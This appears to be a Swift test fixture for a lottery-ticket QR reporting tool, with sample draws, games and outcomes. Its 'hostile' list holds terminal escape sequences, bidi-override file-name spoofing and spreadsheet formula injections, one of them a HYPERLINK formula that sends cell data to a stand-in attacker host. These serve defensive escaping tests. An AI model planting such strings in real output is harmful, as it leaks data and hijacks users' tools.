import Lottery
import Testing

@testable import Reporting

/// Handwritten outcomes, one or more of every kind.
///
/// Round 1100 was drawn on 2023-12-30: 17 26 29 30 31 43 and the bonus number 12.
enum Sample {
  /// Prizes whose every amount is known.
  static func prizes(_ total: Int) -> RankPrizes {
    RankPrizes(total: total, shared: Double(total), unpublished: 0)
  }

  /// A sum of prizes, perhaps with a game of a rank that is not published.
  static func sum(_ published: Int, unpublished rank: Rank? = nil) -> PrizeSum {
    var sum = PrizeSum()
    sum.add(published, of: .fifth)
    if let rank { sum.add(nil, of: rank) }
    return sum
  }

  static let afterDraw = date("2024-02-01")
  /// A day on which holidays may have moved the deadline of round 1100, 2024-12-31.
  static let inDoubt = date("2025-01-01")
  /// The first day after the longest that holidays may move it.
  static let afterClaim = date("2025-01-15")

  static let round1100 = KnownDraw(
    draw(
      1100,
      [
        (13, 2_207_575_472), (81, 59_050_373), (2_869, 1_667_160), (146_262, 50_000),
        (2_503_154, 5_000),
      ]),
    sha256: String(repeating: "a1", count: 32))

  /// The numbers of round 1100, without winner counts or amounts.
  static let bareRound1100 = KnownDraw(
    draw(1100, [(nil, nil), (nil, nil), (nil, nil), (nil, nil), (nil, nil)]),
    sha256: String(repeating: "b2", count: 32))

  /// Round 1100 with no winner counted for the first rank.
  static let round1100WithoutWinner = KnownDraw(
    draw(1100, [(0, 0), (81, 59_050_373), (2_869, 1_667_160), (146_262, 50_000), (5, 5_000)]),
    sha256: String(repeating: "c3", count: 32))

  /// A game of each rank of round 1100, best first, and one that lost with the bonus number.
  static let first = [17, 26, 29, 30, 31, 43]
  static let second = [12, 17, 26, 29, 30, 31]
  static let third = [17, 26, 29, 30, 31, 45]
  static let fourth = [12, 17, 26, 29, 30, 45]
  static let fifth = [1, 2, 3, 17, 26, 29]
  static let lostWithBonus = [4, 5, 6, 12, 17, 26]

  static let printedPayload =
    "http://m.dhlottery.co.kr/?v=1100q172629303143m121726293031s172629303145"
    + "q121726293045m0102031726290011000110"

  static func date(_ text: String) -> CalendarDate {
    guard let date = CalendarDate(text) else { preconditionFailure(text) }
    return date
  }

  static func source(_ text: String) -> Source { Source(Array(text.utf8)) }

  static func ticket(
    round: Int = 1100, _ games: [[Int]], form: Ticket.Form = .printed,
    serial: String = "0011000110"
  ) -> Ticket {
    guard let round = Round(round) else { preconditionFailure("\(round)") }
    let types: [GameType] = [.automatic, .manual, .semiautomatic, .automatic, .manual]
    return Ticket(
      round: round,
      games: games.enumerated().map { index, numbers in
        Game(slot: Slot.allCases[index], type: types[index], pick: pick(numbers))
      }, serial: serial, form: form)
  }

  /// The reading of a ticket of round 1100 after its draw.
  static func drawn(
    _ games: [[Int]], form: Ticket.Form = .printed, draw: KnownDraw = round1100,
    today: CalendarDate = afterDraw
  ) -> CodeReading {
    .ticket(TicketResult(ticket(games, form: form), draw: draw, today: today))
  }

  static func code(
    _ reading: CodeReading, number: Int = 1, attempt: String = "plain",
    payload: [UInt8]? = nil, duplicateOf: Source? = nil
  ) -> CodeOutcome {
    let isPension = if case .other(let code) = reading { code.name == "pension720" } else { false }
    let usual = Array((isPension ? pensionPayload : printedPayload).utf8)
    return CodeOutcome(
      page: attempt.isEmpty ? 0 : 1, number: number, attempt: attempt, payload: payload ?? usual,
      reading: reading,
      duplicateOf: duplicateOf)
  }

  static func outcome(
    _ source: String = "ticket.png", _ readings: CodeReading..., failure: InputFailure? = nil
  ) -> InputOutcome {
    InputOutcome(
      source: Self.source(source),
      codes: readings.enumerated().map { code($1, number: $0 + 1) }, failure: failure,
      page: failure?.code == .noCode ? 1 : 0)
  }

  static let pending = CodeReading.ticket(
    TicketResult(ticket(round: 1101, [first]), draw: nil, today: date("2024-01-01")))
  static let farAhead = CodeReading.ticket(
    TicketResult(ticket(round: 1300, [first]), draw: nil, today: date("2024-01-01")))
  static let withoutResult = CodeReading.ticket(
    TicketResult(ticket(round: 1101, [first]), draw: nil, today: date("2024-02-01")))

  static let pensionPayload = "http://qr.dhlottery.co.kr/?v=pd1202701s890966"
  static var pension: OtherProduct {
    get throws {
      let payload = try Payload(Array(pensionPayload.utf8))
      guard case .other(let product) = payload else { throw CancellationError() }
      return product
    }
  }

  /// Outcomes that cover every kind of row.
  static func everyKind() throws -> [InputOutcome] {
    var outcomes = [
      outcome("won.png", drawn([first, second, third, fourth, fifth])),
      outcome("lost.png", drawn([[1, 2, 3, 4, 5, 6], lostWithBonus])),
      outcome("expired.png", drawn([fifth], today: afterClaim)),
      outcome("unpublished.png", drawn([first, fourth], draw: bareRound1100)),
      outcome("pending.png", pending), outcome("far.png", farAhead),
      outcome("no-draw.png", withoutResult),
      outcome("pension.png", .other(try pension)), outcome("slip.png", .other(.purchaseSlip)),
      outcome("other.png", .other(.operatorOther)), outcome("foreign.png", .other(.foreign)),
      outcome("cut.png", drawn([fifth]), failure: InputFailure(.truncated)),
      outcome("two.png", drawn([fifth]), .other(.foreign)),
      InputOutcome(
        source: source("again.png"),
        codes: [code(drawn([fifth]), duplicateOf: source("won.png"))], failure: nil),
      InputOutcome(
        source: Source([0x66, 0xFF, 0x2E]), codes: [code(drawn([fifth]), payload: [0x80])],
        failure: nil),
    ]
    outcomes += [Ticket.Form.typed, .bare, .shortened, .doubtfulTail].map {
      outcome("form", drawn([fifth], form: $0))
    }
    outcomes += PayloadError.Reason.allCases.map {
      outcome("broken", .broken(PayloadError($0, at: 32)))
    }
    outcomes += InputFailure.Code.allCases.map {
      let cause =
        $0 == .tooManyCodes ? .codes(limit: 1024) : InputFailure.Cause.words("what was found")
      return outcome("failed", failure: InputFailure($0, cause))
    }
    return outcomes
  }

  /// Texts that could control terminals, editors or spreadsheets.
  static let hostile = [
    "\u{1B}]0;title\u{07}\u{1B}[2J", "\u{202E}gnp.exe", "a\u{2066}b\u{2069}", "\u{9B}31m",
    "\u{7F}\u{0}\u{1}\u{1F}", "line\nline\r\nline\rline\ttab", "\u{2028}\u{2029}\u{FEFF}",
    "\u{85}\u{A0}\u{61C}\u{200F}", "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
    "＝1", "\"quoted\"", "a,b", "'", "\\u0041", "</script><b>&amp;", "\u{0}", " ", "",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "\u{FFFD}", "\u{1F468}\u{200D}\u{1F469}",
  ]

  private static func pick(_ numbers: [Int]) -> Pick {
    guard let pick = Pick(numbers) else { preconditionFailure("\(numbers)") }
    return pick
  }

  private static func draw(_ number: Int, _ tiers: [(Int?, Int?)]) -> Draw {
    guard let round = Round(number),
      let draw = Draw(
        round: round, winning: pick(first), bonus: 12,
        tiers: tiers.map { PrizeTier(winners: $0.0, amount: $0.1) },
        totalSales: tiers.contains { $0.1 == nil } ? nil : 113_000_000_000)
    else { preconditionFailure("\(number)") }
    return draw
  }
}

extension InputFailure {
  /// The failure for a path that does not exist.
  static let noSuchFile = InputFailure(
    .openFailed, .words("no such file or directory"))
}

extension OutputFormat {
  /// A formatter of rows in English.
  var formatter: any ResultFormatter { formatter(FormatSettings(language: .english, width: 80)) }
}

extension ResultFormatter {
  /// Appends the rows of an outcome.
  mutating func append(
    _ outcome: InputOutcome, in language: Language = .english, to output: inout [UInt8]
  ) {
    append(GameRecord.records(of: outcome), to: &output)
  }
}

extension GameRecord {
  /// The message in English.
  var english: String { message(in: .english) }
}
